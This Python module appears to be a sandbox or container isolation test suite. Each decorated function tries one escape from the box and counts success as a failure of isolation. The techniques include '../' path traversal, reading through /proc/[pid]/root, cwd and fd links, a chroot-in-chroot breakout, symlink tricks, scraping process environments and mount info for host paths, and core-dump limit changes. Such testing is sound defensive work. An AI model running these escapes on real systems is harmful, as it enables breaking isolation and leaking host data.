"""Reaching for files of the host."""

from __future__ import annotations

import glob
import os
import resource
import socket

from attack import FACTS, Refused, attack, first_gain, main

SECRET = FACTS["secret"]  # a world-readable file of the host
MARK = FACTS["mark"]  # its content


def read(path: str) -> str:
    with open(path, errors="replace") as file:
        text = file.read(1 << 16)
    if MARK not in text:
        raise Refused("another file")
    return text


@attack("host")
def read_a_host_file_by_its_path() -> object:
    return read(SECRET)


@attack("host")
def climb_out_with_dot_dot() -> object:
    os.chdir("/tmp")
    return read("../" * 64 + SECRET.lstrip("/"))


@attack("host")
def climb_out_through_the_root_of_some_process() -> object:
    roots = [*glob.glob("/proc/[0-9]*/root"), "/proc/self/root", "/proc/thread-self/root"]
    return first_gain(*(lambda root=root: read(root + SECRET) for root in roots))


@attack("host")
def climb_out_through_the_cwd_of_some_process() -> object:
    places = glob.glob("/proc/[0-9]*/cwd")
    return first_gain(*(lambda place=place: read(f"{place}/{'../' * 40}{SECRET}") for place in places))


@attack("host")
def climb_out_through_an_open_fd_of_some_process() -> object:
    places = glob.glob("/proc/[0-9]*/fd/*")
    if FACTS.get("held") not in (None, *places):
        raise Refused("without a holder")
    return first_gain(*(lambda place=place: read(f"{place}/{'../' * 40}{SECRET}") for place in [*places, "/"]))


@attack("host")
def climb_out_of_a_chroot_in_the_chroot() -> object:
    out = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    jail = f"{FACTS['scratch']}/jail"
    os.makedirs(jail, exist_ok=True)
    os.chroot(jail)
    os.fchdir(out)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return read(SECRET)


@attack("host")
def follow_a_link_to_a_host_file() -> object:
    link = f"/tmp/link-{os.getpid()}"
    os.symlink(f"/proc/self/root{SECRET}", link)
    try:
        return read(link)
    finally:
        os.unlink(link)


@attack("host")
def find_the_secret_under_any_directory() -> object:
    wanted = os.path.basename(SECRET)
    for top in ("/tmp", "/root", "/home", "/run", "/var", "/mnt", "/media", "/srv", "/opt", "/dev", "/workspace"):
        for where, _, files in os.walk(top):
            if wanted in files:
                return where
    raise Refused("it is nowhere")


@attack("host")
def read_the_hosts_store() -> object:
    return first_gain(lambda: os.listdir(FACTS["state_dir"]), lambda: os.listdir(FACTS["run_dir"]))


@attack("host")
def learn_the_hosts_names() -> object:
    """The image was bootstrapped on this host: it must not contain anything that identifies the host."""
    with open("/etc/hostname", errors="replace") as file:
        names = [socket.gethostname(), os.uname().nodename, file.read().strip()]
    if FACTS["hostname"] not in names:
        raise Refused("other names")
    return names


@attack("host")
def learn_the_hosts_machine_id() -> object:
    with open("/etc/machine-id") as file:
        if not (text := file.read().strip()) or text != FACTS["machine_id"]:
            raise Refused("another id")
    return text


@attack("host")
def find_the_hosts_settings_in_some_environment() -> object:
    def look(path: str) -> object:
        with open(path, "rb") as file:
            if os.fsencode(FACTS["state_dir"]) not in (text := file.read(1 << 16)):
                raise Refused("nothing of the host's")
        return text

    return first_gain(*(lambda path=path: look(path) for path in glob.glob("/proc/[0-9]*/environ")))


@attack("host")
def learn_host_paths_from_the_list_of_mounts() -> object:
    """The line of the overlay may name its layers, but not the path of the store."""
    with open("/proc/self/mountinfo") as file:
        told = [line for line in file if FACTS["state_dir"] in line or FACTS["run_dir"] in line]
    if not told:
        raise Refused("no such path")
    return told


@attack("host")
def learn_host_paths_from_the_list_of_disks() -> object:
    def told(path: str) -> object:
        with open(path) as file:
            return file.read()

    paths = [*glob.glob("/sys/block/*/loop/backing_file"), *glob.glob("/sys/devices/virtual/block/*/loop/backing_file")]
    return first_gain(*(lambda path=path: told(path) for path in paths))


@attack("host")
def see_the_hosts_mounts() -> object:
    with open("/proc/1/mountinfo") as file:
        kinds = {line.split(" - ")[1].split()[0] for line in file}
    if not (found := kinds - {"overlay", "proc", "sysfs", "tmpfs", "devpts", "mqueue", "cgroup", "cgroup2"}):
        raise Refused("its own only")
    if found <= {"ext4", "xfs", "btrfs", "devtmpfs"} and "hugetlbfs" not in kinds and FACTS.get("inside"):
        raise Refused("the file systems of single files: devices and the keeper")
    return found


@attack(None)
def have_the_host_dump_a_core() -> object:
    """A limit of 1 byte is the one with which the kernel starts no handler; it must not be changeable."""
    before = resource.getrlimit(resource.RLIMIT_CORE)
    for wish in ((resource.RLIM_INFINITY,) * 2, (before[1], before[1]), (0, before[1]), (0, 0)):
        try:
            resource.setrlimit(resource.RLIMIT_CORE, wish)
        except (OSError, ValueError):
            continue
    if (now := resource.getrlimit(resource.RLIMIT_CORE)) == (1, 1):
        raise Refused("the limit stays 1")
    return now


if __name__ == "__main__":
    main()
